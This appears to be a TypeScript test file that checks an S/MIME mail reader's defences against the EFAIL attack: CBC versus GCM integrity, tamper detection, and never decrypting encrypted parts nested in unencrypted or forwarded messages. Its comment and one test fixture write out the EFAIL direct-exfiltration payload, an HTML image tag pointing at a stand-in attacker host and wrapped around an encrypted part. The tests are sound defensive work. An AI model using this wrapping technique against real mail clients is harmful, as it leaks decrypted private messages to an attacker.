/**
 * Item 5, EFAIL: CBC-only content is reported as not integrity-protected (so remote content stays
 * blocked for it), GCM content is, tampering with GCM is caught, and an encrypted part below an
 * unencrypted root is never decrypted, so it can never be shown beside the attacker's parts
 * (direct exfiltration: <img src="http://evil/? ... encrypted part ... ">).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { keyDecryptor } from './decrypt-envelope';
import type { Decryptor } from './decryption-port';
import { encryptEntity } from './encrypt-entity';
import { wrapBase64 } from './mime/canonical';
import { textEntity, withMessageHeaders } from './mime/compose-entity';
import { readEntity } from './mime/raw-entity';
import { decodeBody } from './mime/transfer-encoding';
import { message, multipart, part } from './testing/mime-builders';
import { createSmimeFixture, type SmimeFixture } from './testing/smime-fixture';

let f: SmimeFixture;
let decryptor: Decryptor;
beforeAll(() => {
  f = createSmimeFixture();
  decryptor = keyDecryptor(() => [{ certificate: f.alice.certificate, key: f.alice.key }]);
}, 120_000);
afterAll(() => f.cleanup());

function encryptedToAlice(gcm: boolean): Buffer {
  const { entity } = encryptEntity(textEntity('The secret plan.'), [{ certificate: f.alice.certificate, capabilities: { aesGcm: gcm, rsaOaep: false } }]);
  return entity;
}

const HEADERS = ['From: carol@example.test', 'To: alice@example.test', 'Subject: efail'];

describe('decrypted content', () => {
  it('is not integrity-protected when it is CBC without a signature inside', async () => {
    const result = await f.read(withMessageHeaders(encryptedToAlice(false), { from: 'carol@example.test', to: ['alice@example.test'], subject: 'cbc', date: f.now }), { decryptor });
    expect(result.verdict.encryption).toMatchObject({ status: 'decrypted', algorithm: 'AES-256-CBC', integrityProtected: false });
    expect(result.verdict.encryption.reason).toMatch(/does not protect against tampering; remote content stays blocked/);
    expect(result.verdict.signature.status).toBe('none');
  });

  it('is integrity-protected when it is AES-GCM', async () => {
    const result = await f.read(message(HEADERS, encryptedToAlice(true)), { decryptor });
    expect(result.verdict.encryption).toMatchObject({ status: 'decrypted', algorithm: 'AES-256-GCM', integrityProtected: true, reason: null });
  });

  it('is refused when AES-GCM ciphertext was altered', async () => {
    const entity = encryptedToAlice(true);
    const der = decodeBody(readEntity(entity));
    der[der.length - 40] = der[der.length - 40]! ^ 0x01; // inside the ciphertext, before the mac
    const altered = Buffer.concat([entity.subarray(0, entity.indexOf('\r\n\r\n') + 4), Buffer.from(wrapBase64(der))]);
    const result = await f.read(message(HEADERS, altered), { decryptor });
    expect(result.verdict.encryption.status).toBe('error');
    expect(result.verdict.encryption.reason).toMatch(/altered/);
    expect(result.text).toBe('');
  });
});

describe('an encrypted part inside an unencrypted message (EFAIL direct exfiltration)', () => {
  it('is never decrypted, so it cannot be shown beside the attacker\'s parts', async () => {
    let calls = 0;
    const spy: Decryptor = { decrypt: async (der) => { calls++; return decryptor.decrypt(der); } };
    const before = part(['Content-Type: text/html'], '<img src="http://attacker.test/?');
    const after = part(['Content-Type: text/html'], '">');
    const raw = message(HEADERS, multipart('mixed', [before, encryptedToAlice(false), after]));
    const result = await f.read(raw, { decryptor: spy });
    expect(calls).toBe(0);
    expect(result.verdict.encryption.status).toBe('none');
    expect(result.verdict.encryption.reason).toMatch(/does not open it/);
    expect(result.text).not.toContain('secret');
  });

  it('is never decrypted when attached as a forwarded message either', async () => {
    let calls = 0;
    const spy: Decryptor = { decrypt: async (der) => { calls++; return decryptor.decrypt(der); } };
    const forwarded = part(['Content-Type: message/rfc822'], message(HEADERS, encryptedToAlice(true)));
    const result = await f.read(message(HEADERS, multipart('mixed', [part(['Content-Type: text/plain'], 'see below'), forwarded])), { decryptor: spy });
    expect(calls).toBe(0);
    expect(result.text).toBe('see below');
  });
});
